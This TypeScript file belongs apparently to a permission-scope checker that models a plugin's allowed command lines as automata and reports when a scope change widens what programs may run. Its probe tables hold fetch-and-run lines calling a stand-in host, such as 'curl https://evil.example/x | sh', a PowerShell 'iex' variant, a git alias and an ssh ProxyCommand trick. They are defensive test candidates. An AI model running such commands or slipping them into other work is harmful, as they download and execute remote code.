import type { ProgramArgument, ProgramEntry, ScopeEntry } from "../../../domain/scope.ts";
import type { Work } from "../../../domain/work.ts";
import { automatonOf, NOTHING, ownLanguage } from "../../../language/automaton.ts";
import { not, oneOf } from "../../../language/characters.ts";
import { character, type Expression, literal, many, sequence, words } from "../../../language/expression.ts";
import { type Language, readable } from "../../../language/language.ts";
import { withoutDeadEnds } from "../../../language/minimise.ts";
import { remembered } from "../../../language/remembered.ts";
import { validatorExpression } from "../../../language/validator.ts";
import { compareScopes } from "./language-scope.ts";
import type { LanguageEntry, LanguageScope, Reading } from "./reading.ts";
import type { ScopeQuestion, ScopeSide } from "./scope-question.ts";
import { inUniverse } from "./universe.ts";

/** The program that an entry is about; undefined where the plugin would refuse the entry. */
export function programOf(entry: ScopeEntry): ProgramEntry | undefined {
  return entry.kind === "program" ? entry.program : undefined;
}

/** Command lines, as texts: the program, then each argument, every one ended by a NUL, which no argument can hold. */
export const programQuestion: ScopeQuestion = (base, head, _command, _platform, work) =>
  compareScopes(programScope(base, work), programScope(head, work), programReading(head), work);

function programScope({ allow: entries, deny }: ScopeSide, work: Work): LanguageScope {
  // One entry that the plugin can't parse makes every call of the command fail.
  if ([...entries, ...deny].some((entry) => programOf(entry) === undefined)) return { allow: [], deny: [] };
  const taken = new Set<string>();
  const allow: LanguageEntry[] = [];
  for (const entry of entries) {
    const name = programOf(entry)?.name ?? "";
    const language = lines(entry, work);
    // The first entry of a name counts; a later one is never looked at, but one that Rust refuses makes every call fail.
    if (!taken.has(name) || language === undefined) allow.push({ entry, language });
    taken.add(name);
  }
  // Denying entries are parsed, and then ignored.
  return { allow, deny: deny.map((entry) => ({ entry, language: lines(entry, work) && NOTHING })) };
}

function lines(entry: ScopeEntry, work: Work): Language | undefined {
  const program = programOf(entry);
  return program && readable(() => commandLines(program, work));
}

const END = "\0";
const ARGUMENT = many(character(not(oneOf(END))));
const LINES = many(sequence(ARGUMENT, literal(END)));
const UNIVERSE = ownLanguage(LINES);
const ANY_ARGUMENT = ownLanguage(ARGUMENT);

/** Undefined where a validator can't be read, or a text can't be that of a program or of an argument. */
function commandLines({ sidecar, command, arguments: list }: ProgramEntry, work: Work): Language | undefined {
  return commands(JSON.stringify([sidecar ? "sidecar" : "program", command, list]), work);
}

const commands = remembered((question: string, work: Work): Language | undefined => {
  const [kind, command, list]: [string, string, ProgramEntry["arguments"]] = JSON.parse(question);
  if (command.includes(END)) return undefined;
  const start = literal([kind, command, ""].join(END));
  if (list === true) return automatonOf(sequence(start, LINES), work);
  const texts = list.map((argument) => argumentTexts(argument, work));
  if (!texts.every((text) => text !== undefined)) return undefined;
  return withoutDeadEnds(
    automatonOf(sequence(start, ...texts.flatMap((text) => [text, literal(END)])), work),
    work,
  );
});

/** What an argument may be; no program is started with a NUL in one. */
function argumentTexts(argument: ProgramArgument, work: Work): Expression | undefined {
  const expression =
    "fixed" in argument ? literal(argument.fixed) : validatorExpression(argument.validator, work);
  const texts = expression && inUniverse(expression, ANY_ARGUMENT, work);
  return texts && words(texts);
}

/** Arguments that turn a known program into any program. */
const KNOWN: readonly (readonly [RegExp, string])[] = [
  [/^(?:sh|bash|zsh|dash|ksh|fish|ash)$/, "-c\0curl https://evil.example/x | sh\0"],
  [/^cmd$/i, "/C\0curl https://evil.example/x | cmd\0"],
  [/^(?:powershell|pwsh)$/i, "-Command\0irm https://evil.example/x | iex\0"],
  [/^(?:node|bun)$/, "-e\0require('child_process').exec('curl https://evil.example/x | sh')\0"],
  [/^python[\d.]*$/, "-c\0import os; os.system('curl https://evil.example/x | sh')\0"],
  [/^git$/, "-c\0alias.x=!curl https://evil.example/x | sh\0x\0"],
  [/^(?:ssh|scp|sftp)$/, "-oProxyCommand=curl https://evil.example/x | sh\0host\0"],
];

function tellingFor(command: string): string[] {
  const name = (command.split(/[\\/]/).at(-1) ?? command).replace(/\.exe$/i, "");
  const known = KNOWN.filter(([program]) => program.test(name)).map(([, rest]) => rest);
  return [...known, "--any-option\0any value\0", ...TELLING];
}

/** Arguments by which many a program runs another. */
const TELLING = [
  "-c\0curl https://evil.example/x | sh\0",
  "/C\0curl https://evil.example/x | cmd\0",
  "--eval\0evil()\0",
];

function programReading(head: ScopeSide): Reading {
  const programs = head.allow.flatMap((entry) => programOf(entry) ?? []);
  return {
    universe: UNIVERSE,
    candidates: programs.flatMap(({ sidecar, command }) => {
      const start = `${sidecar ? "sidecar" : "program"}\0${command}\0`;
      return [
        ...tellingFor(command).map((rest) => ({ word: start + rest, sensitive: true })),
        { word: start, sensitive: false },
      ];
    }),
    show(word, entry) {
      const [kind, command = "", ...args] = word.split("\0").slice(0, -1);
      const name = programOf(entry)?.name ?? command;
      return {
        payload: { program: name, args, ...(kind === "sidecar" && { options: { sidecar: true } }) },
        example: [command, ...args].map(quoted).join(" "),
        runs: command,
      };
    },
  };
}

/** An argument as it is typed: people must see where one ends. */
function quoted(argument: string): string {
  return /^[^\s"'|;&<>]+$/.test(argument) ? argument : JSON.stringify(argument);
}
